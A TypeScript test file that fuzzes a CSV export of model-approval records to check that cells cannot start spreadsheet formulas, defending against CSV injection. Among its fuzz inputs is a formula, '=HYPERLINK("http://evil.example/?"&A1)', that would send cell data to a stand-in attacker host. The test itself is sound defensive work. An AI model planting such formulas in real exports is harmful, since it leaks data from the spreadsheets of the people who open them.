import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { ApprovalView } from '../schemas/approval-view.ts';
import { approvalLine } from './approvals-as-csv.ts';

const digest = `sha256:${'a'.repeat(64)}`;
const approval: ApprovalView = {
  at: '2026-11-21T10:00:00.000Z',
  by: 'validator-1',
  name: 'Vera Okafor',
  department: null,
  onBehalfOf: null,
  how: 'DECISION',
  model: 'mortgage',
  version: '1',
  modelVersionId: 'mver_1',
  riskTier: 'high',
  process: 'validation',
  round: 1,
  signOff: 'validation',
  reviewId: 'rev_1',
  reviewOutcome: 'APPROVED',
  voided: null,
  evidenceDigest: digest,
  policy: { id: 'high', version: 1 },
  reason: 'Read the plan, the metrics; fine',
  conditions: [],
  channel: 'web',
  assurance: null,
  signature: null,
  decisionId: 'dec_1',
  entry: { stream: 'mver_1', position: 7, hash: digest },
};
/** Somebody's words in every cell that holds any. */
const lineWith = (words: string) =>
  approvalLine({
    ...approval,
    name: words,
    model: words,
    version: words,
    reason: words,
    conditions: [words, words],
    voided: { at: approval.at, why: words, policyVersion: 2 },
    signature: { name: words, at: approval.at, meaning: words },
  });

/** Cells as a naive spreadsheet takes them apart, whatever stands in quotation marks; spaces around them and the marks themselves go. */
const cellsOf = (line: string, separator: string | RegExp): string[] =>
  line.split(separator).map((cell) => cell.replaceAll(/["\s\u{feff}]/gu, ''));
const separators = [',', ';', '|', '\t', '\n', '\r', /[,;|\t\r\n\v\f\u0085\u2028\u2029]/];
const startsFormula = (cell: string) => /^[=+\-@＝＋－＠]/.test(cell);

it('begins no cell with a formula, whatever separates cells and lines where it is opened', () => {
  const piece = fc.constantFrom(
    '=', '+', '-', '@', '＝', '＋', '－', '＠', ',', ';', '|', '\t', '\r', '\n', '\u2028', '\u0085', ' ', '\u00a0', '\ufeff', '"', "'", 'a', '1', '=HYPERLINK("http://evil.example/?"&A1)',
  ); // prettier-ignore
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const line = lineWith(pieces.join(''));
      for (const separator of separators) expect(cellsOf(line, separator).filter(startsFormula)).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

it.each([
  ['fine;=1+1', "fine;'=1+1"],
  ['fine\n=1+1', "fine\n'=1+1"],
  ['fine; "=1+1"', `fine; ""'=1+1""`],
  ['=1+1', "'=1+1"],
  ['- one\n- two', "'- one\n'- two"],
])('puts an apostrophe before what %j would run', (words, cell) => {
  expect(lineWith(words)).toContain(`"${cell}"`);
});

it('leaves text alone that begins nothing', () => {
  const words = 'Up by 3 - or 4; a+b=c, mail vera@example.com | "fine"\nReally';
  expect(lineWith(words)).toContain(`"${words.replaceAll('"', '""')}"`);
});
